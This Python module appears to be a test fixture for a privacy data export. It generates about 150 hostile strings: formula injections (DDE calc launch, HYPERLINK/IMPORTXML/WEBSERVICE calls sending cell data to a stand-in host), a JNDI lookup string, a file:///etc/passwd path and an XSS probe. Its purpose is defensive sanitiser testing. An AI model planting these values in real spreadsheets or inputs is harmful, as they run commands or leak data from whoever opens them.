"""A hundred and fifty strings that mean harm to whatever program they are put into."""

from __future__ import annotations

from itertools import product

from station_app.domain.privacy.leaving import DANGEROUS

LEADS = (*DANGEROUS, "\n", "\x0b", " ", "\u00a0", "\ufeff", "'", '"', "\x00")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a/?"&A1,"看")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://a/",A1),"//a")',
    'WEBSERVICE("http://a")',
)
OTHERS = (
    "_x000D_=1+1",
    "_x0041_",
    "1E5",
    "TRUE",
    "0012",
    "110000199001010013",
    "1/2",
    "2026-03-01",
    "http://a/b",
    "mailto:a@b",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "<script>alert(1)</script>",
    "a&b<c>d\"e'f",
    "]]><f>1+1</f>",
    "甲,乙;丙\t丁",
    "一行\n二行",
    '多"引"号',
    "\u202e反过来",
    "\u200b零宽",
    "𠮷\U000323af",
    "%s%n${jndi:ldap://a}",
    "{=1+1}",
    "#N/A",
    "#REF!",
    "[1]Sheet1!A1",
    "长" * 300,
)
HOSTILE = tuple(dict.fromkeys((*("".join(each) for each in product(LEADS, BODIES)), *OTHERS)))
